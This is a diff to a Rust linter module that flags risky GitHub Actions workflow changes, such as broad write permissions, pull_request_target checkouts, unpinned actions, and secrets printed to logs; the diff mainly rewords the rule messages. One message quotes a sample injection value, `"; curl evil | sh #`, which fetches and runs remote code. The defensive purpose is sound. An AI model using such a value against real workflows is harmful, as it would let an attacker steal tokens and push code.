@@ -1,4 +1,4 @@
-//! Workflows of GitHub Actions: what they may do, whose text they run, whose code they trust.
+//! GitHub Actions workflows: permissions, untrusted text and untrusted code.
 
 use crate::diff::kinds::FileKind;
 use crate::diff::patch::{Kind, Line};
@@ -13,69 +13,71 @@ const ALL: Signal = Signal::security(
     "workflows/write-all",
     Major,
     0.9,
-    "The workflow may change everything in the repository",
-    "With `write-all` every step, third-party actions included, holds a token that can push code and publish \
-     releases. Grant the single permissions that the job needs.",
+    "Workflow has write access to everything",
+    "With `write-all` every step, including third-party actions, can push code and publish releases. Grant \
+     only the permissions that the job needs.",
 );
 
 const WIDENED: Signal = Signal::security(
     "workflows/widened",
     Minor,
     0.8,
-    "A permission of the workflow is widened from read to write",
-    "Every step of the job, third-party actions included, can now use it. Grant it only to the job that needs it.",
+    "Workflow permission changes from read to write",
+    "Every step of the job, including third-party actions, can now use it. Grant it only to the job that needs \
+     it.",
 );
 
 const GRANTED: Signal = Signal::security(
     "workflows/granted",
     Nit,
     0.6,
-    "The workflow gets a permission to write",
-    "Every step of the job, third-party actions included, can use it. Check that no narrower permission will do.",
+    "Workflow gets a write permission",
+    "Every step of the job, including third-party actions, can use it. Check that no narrower permission is \
+     enough.",
 );
 
 const TARGET: Signal = Signal::security(
     "workflows/target",
     Minor,
     0.8,
-    "The workflow runs for pull requests of strangers with the repository's secrets",
-    "`pull_request_target` runs with a writing token and secrets. It must never run code or text of the pull \
-     request. Use `pull_request` unless only labels and comments are touched.",
+    "`pull_request_target` runs with secrets",
+    "It gives the workflow a write token and secrets, also for pull requests from forks. Use `pull_request`, \
+     unless the workflow never runs code or text of the pull request.",
 );
 
 const CHECKOUT: Signal = Signal::security(
     "workflows/checkout",
     Major,
     0.9,
-    "Code of a stranger's pull request is checked out beside the repository's secrets",
-    "Under `pull_request_target` the head of the pull request is untrusted: its build scripts can take the token and \
-     push. Build it in a `pull_request` workflow without secrets.",
+    "`pull_request_target` checks out untrusted code with access to secrets",
+    "Build scripts of the pull request can steal the token and push. Build it in a `pull_request` workflow \
+     without secrets.",
 );
 
 const UNPINNED: Signal = Signal::security(
     "workflows/unpinned",
     Minor,
     0.8,
-    "An action is taken from a branch",
-    "Whoever can push to that branch runs code in this workflow, with its token and secrets. Pin the action to a \
-     release, better to the SHA of a commit.",
+    "Action is not pinned to a release",
+    "Anyone who can push to that branch can run code in this workflow, with its token and secrets. Pin a \
+     release, or better a commit SHA.",
 );
 
 const INJECTION: Signal = Signal::security(
     "workflows/injection",
     Major,
     0.9,
-    "Text of a stranger is pasted into a shell script",
-    "A title or branch name like `\"; curl evil | sh #` is executed with the workflow's token. Put the expression into \
-     `env:` and use the variable, in quotes.",
+    "Untrusted text is inserted into a shell script",
+    "A title or branch name like `\"; curl evil | sh #` is executed with the workflow's token. Pass the \
+     expression through `env:` and quote the variable.",
 );
 
 const PRINTED: Signal = Signal::security(
     "workflows/printed",
     Major,
     0.75,
-    "A secret is printed in the log of a workflow",
-    "Masking fails as soon as the value is changed a little, and logs are readable for many. Do not print it.",
+    "Secret is printed to the workflow log",
+    "Masking fails as soon as the value is transformed, and many people can read the log. Do not print it.",
 );
 
 const IGNORED: Signal = Signal::new(
@@ -83,9 +85,9 @@ const IGNORED: Signal = Signal::new(
     Minor,
     "ci",
     0.75,
-    "A failing check no longer fails the build",
-    "With `|| true` the step is green whatever it finds, so broken code can be merged. Let it fail, or exclude what \
-     is known to be broken.",
+    "Failing check no longer fails the build",
+    "With `|| true` the step always succeeds, so broken code can be merged. Remove it, or exclude the known \
+     failures.",
 );
 
 const CONTINUED: Signal = Signal::new(
@@ -93,16 +95,17 @@ const CONTINUED: Signal = Signal::new(
     Nit,
     "ci",
     0.6,
-    "A step may fail without failing the build",
-    "Check that nobody relies on this step. `continue-on-error` hides its failures.",
+    "Step may fail without failing the build",
+    "`continue-on-error` hides its failures. Check that no other step relies on it.",
 );
 
 const UNSECURE: Signal = Signal::security(
     "workflows/commands",
     Major,
     0.9,
-    "Deprecated workflow commands are switched on again",
-    "Any printed text can then set variables and paths for later steps. Write to `$GITHUB_ENV` and `$GITHUB_PATH`.",
+    "Deprecated workflow commands are enabled",
+    "Any printed text can set variables and paths for later steps. Write to `$GITHUB_ENV` and `$GITHUB_PATH` \
+     instead.",
 );
 
 pub const RULES: &[Rule] = &[
@@ -176,7 +179,7 @@ fn grants(row: &Row) -> bool {
     workflow(row) && scope.is_some_and(|scope| scopes.split(' ').any(|one| one == scope))
 }
 
-/// Whether the same permission was `read` or `none` in a line that is deleted.
+/// Whether the same permission was `read` or `none` in a deleted line.
 fn widens(row: &Row) -> bool {
     let scope = row.code().trim().split(':').next().unwrap_or_default();
     let (read, none) = (format!("{scope}: read"), format!("{scope}: none"));
@@ -213,7 +216,7 @@ fn unpinned(row: &Row) -> bool {
         })
 }
 
-/// What a stranger chooses, put into a `run:` or a `script:` by the template engine.
+/// Untrusted text that the template engine inserts into a `run:` or a `script:`.
 fn injected(row: &Row) -> bool {
     let chosen = ["{ github.event.", "{ github.head_ref"];
     workflow(row)
@@ -247,7 +250,7 @@ fn foreign(text: &str) -> bool {
             && !path.holds("repository")
 }
 
-/// Whether the line belongs to a script: on the line of `run:`, or in the block under it.
+/// Whether the line belongs to a script: on the line of `run:`, or in the block below it.
 fn scripted(row: &Row) -> bool {
     let starts = |text: &str| {
         let text = text.trim_start().trim_start_matches("- ");
